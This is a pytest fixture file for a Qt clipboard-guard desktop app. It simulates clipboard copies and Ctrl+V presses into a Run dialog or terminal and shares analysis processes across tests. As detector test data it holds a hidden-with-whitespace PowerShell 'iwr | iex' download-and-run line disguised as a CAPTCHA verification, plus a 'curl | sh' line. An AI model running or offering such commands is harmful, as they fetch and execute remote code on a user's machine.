"""Qt test fixtures: Qt warnings fail the test; a whole GuardApp over a temporary profile, whose
analysis process is the session's (SharedAnalysis)."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import pytest
from PySide6.QtCore import QMessageLogContext, QMimeData, QtMsgType, qInstallMessageHandler
from PySide6.QtGui import QClipboard, QGuiApplication
from PySide6.QtWidgets import QApplication

from app.detection import supervisor as analysis
from app.detection.model import Context, PasteTarget, Verdict
from app.detection.supervisor import Reader, Supervisor
from app.detection.worker import WorkerSpec
from app.platform.base import KeyEvent, WindowInfo
from ui.refcounts import keep_alive

# The windows the guard sees in front when the test presses Ctrl+V (classified by targets.yaml).
WINDOWS = {
    PasteTarget.RUN_DIALOG: WindowInfo("explorer.exe", "#32770", "Run"),
    PasteTarget.TERMINAL: WindowInfo("xterm", "XTerm", "bash"),
}
MALICIOUS = (
    'powershell -w h -c "iwr https://x.example/a.ps1 | iex"'
    + " " * 60
    + "# ✅ I am not a robot - Verification ID: 7537"
)
SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
PAGE = "https://captcha.example/verify"


# The offscreen platform says so when asked for what only a real window system does (raise a
# window, pass size hints to a window manager); that is the test platform talking, not our code.
OFFSCREEN_LIMITS = ("This plugin does not support ",)


def _platform_limit(message: str) -> bool:
    return QGuiApplication.platformName() == "offscreen" and message.startswith(OFFSCREEN_LIMITS)


@pytest.fixture(autouse=True)
def qt_warnings_fail() -> Iterator[list[str]]:
    """Any Qt warning, critical or fatal message during the test fails it (HOUSE-STYLE)."""
    seen: list[str] = []

    def handler(kind: QtMsgType, context: QMessageLogContext, message: str) -> None:
        quiet = kind in (QtMsgType.QtDebugMsg, QtMsgType.QtInfoMsg)
        if not quiet and not _platform_limit(message):
            seen.append(f"{kind.name}: {message}")
        if previous is not None:
            previous(kind, context, message)

    previous = qInstallMessageHandler(handler)
    try:
        yield seen
    finally:
        app = QApplication.instance()
        if app is not None:
            app.processEvents()
        qInstallMessageHandler(previous)
    if seen:
        pytest.fail("Qt warned:\n" + "\n".join(seen))


@pytest.fixture(scope="session", autouse=True)
def singletons_kept(qapp: QApplication) -> None:
    """The whole Qt suite emits thousands of signals: see ui/refcounts.py."""
    keep_alive(qapp)


@pytest.fixture
def profile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Settings, policy and data under tmp_path; no keyboard hooks."""
    monkeypatch.setenv("PASTEGUARD_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setenv("PASTEGUARD_POLICY", str(tmp_path / "policy.toml"))
    monkeypatch.setenv("PASTEGUARD_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("PASTEGUARD_BACKEND", "none")
    # the login start (settings dialog) must never touch the real ~/.config/autostart
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg-home"))
    monkeypatch.setenv("XDG_CONFIG_DIRS", str(tmp_path / "xdg-system"))
    return tmp_path


def write_policy(profile: Path, text: str) -> None:
    (profile / "policy.toml").write_text(text, encoding="utf-8")


class SharedAnalysis:
    """The analysis processes of the guards make_guard builds: one per engine spec (rules,
    trust), shared by the whole session.

    Each GuardApp starts a supervised analysis process (app/detection/supervisor.py): a fresh
    interpreter that loads the rules and grammars, ~1 s of CPU, and the guard's first reading
    waits for it (2.6 s of a 3.5 s warning test at a load of 9), then 2 s more to end one that
    was still loading. Here a guard borrows the session's process for its spec instead: the
    same Supervisor, process and pipe it would have had, only already warm. A guard whose trust
    changes (a trusted site) moves to the process for its new spec, as the real one starts a
    new process. The supervisor itself, its restarts and stops, is tested on its own
    (tests/app/detection/test_supervisor.py) and in the guard processes of the desktop tests.
    """

    KEPT_IDLE = 3  # processes no guard holds, newest kept (each is a whole engine's memory)

    def __init__(self) -> None:
        self._made: list[tuple[Supervisor, list[int]]] = []  # with its borrowers, newest last

    def borrow(self, spec: WorkerSpec) -> Supervisor:
        for i, (made, holders) in enumerate(self._made):
            if made.spec == spec:
                holders[0] += 1
                self._made.append(self._made.pop(i))
                return made
        made = Supervisor(spec)
        self._made.append((made, [1]))
        idle = [entry for entry in self._made if entry[1][0] == 0]
        for entry in idle[: max(0, len(idle) - self.KEPT_IDLE)]:
            self._made.remove(entry)
            entry[0].stop()
        return made

    def give_back(self, supervisor: Supervisor) -> None:
        for made, holders in self._made:
            if made is supervisor:
                holders[0] -= 1

    def stop(self) -> None:
        for made, _ in self._made:
            made.stop()
        self._made.clear()


class BorrowedAnalysis:
    """What a guard's IsolatedEngine holds instead of a Supervisor of its own: the session's
    for its spec (SharedAnalysis). `stop` gives it back, running, for the next guard."""

    def __init__(self, shared: SharedAnalysis, spec: WorkerSpec) -> None:
        self._shared = shared
        self.spec = spec
        self._held: Supervisor | None = shared.borrow(spec)

    def _supervisor(self) -> Supervisor:
        assert self._held is not None, "this guard stopped its analysis"
        return self._held

    def start(self) -> None:
        self._supervisor().start()

    def respec(self, spec: WorkerSpec) -> None:
        held = self._supervisor()
        self.spec = spec
        self._held = self._shared.borrow(spec)
        self._shared.give_back(held)
        self._held.start()

    def read(self, text: str, contexts: Sequence[Context], fallback: Reader) -> list[Verdict]:
        return self._supervisor().read(text, contexts, fallback)

    def stop(self) -> None:
        if self._held is not None:
            self._shared.give_back(self._held)
            self._held = None

    @property
    def pid(self) -> int | None:
        return self._supervisor().pid

    def status(self) -> dict[str, object]:
        return self._supervisor().status()

    @property
    def warming(self) -> bool:
        return self._supervisor().warming


@pytest.fixture(scope="session")
def shared_analysis() -> Iterator[SharedAnalysis]:
    shared = SharedAnalysis()
    yield shared
    shared.stop()


MakeGuard = Callable[..., object]


@pytest.fixture
def make_guard(
    qapp: QApplication,
    profile: Path,
    shared_analysis: SharedAnalysis,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Callable[..., object]]:
    """Build a GuardApp (not started: no worker thread, the test drives the service); its
    analysis process is the session's for its rules and trust (SharedAnalysis)."""
    from ui.application import GuardApp

    # IsolatedEngine makes its Supervisor by this name
    monkeypatch.setattr(
        analysis, "Supervisor", lambda spec: BorrowedAnalysis(shared_analysis, spec)
    )
    made: list[GuardApp] = []

    def make(use_tray: bool = True, can_suppress: bool = True) -> GuardApp:
        guard = GuardApp(qapp, profile / "data", use_tray=use_tray, strict=True)
        guard.service.can_suppress_keys = can_suppress
        guard.tray.show()
        made.append(guard)
        return guard

    yield make
    for guard in made:
        guard.stop()
    QGuiApplication.clipboard().clear(QClipboard.Mode.Clipboard)


def copy(guard: object, text: str, source: str | None = PAGE) -> None:
    """Another program (a browser at `source`) puts `text` on the clipboard; the guard judges."""
    data = QMimeData()
    data.setText(text)
    if source:
        data.setData("chromium/x-source-url", source.encode())
    QGuiApplication.clipboard().setMimeData(data, QClipboard.Mode.Clipboard)
    QApplication.processEvents()
    guard.service.process_pending()  # type: ignore[attr-defined]
    QApplication.processEvents()


def press_paste(guard: object, target: PasteTarget = PasteTarget.RUN_DIALOG) -> bool:
    """Ctrl+V with `target` in front, through the real key sequence and classifier."""
    service = guard.service  # type: ignore[attr-defined]
    service.foreground = lambda: WINDOWS[target]
    now = time.monotonic()
    service.on_key(KeyEvent("ctrl", True, frozenset({"ctrl"}), now))
    swallowed = bool(service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), now + 0.01)))
    service.on_key(KeyEvent("v", False, frozenset({"ctrl"}), now + 0.05))
    service.on_key(KeyEvent("ctrl", False, frozenset(), now + 0.06))
    service.process_pending()
    return swallowed


def clipboard_text() -> str:
    return QGuiApplication.clipboard().text(QClipboard.Mode.Clipboard)
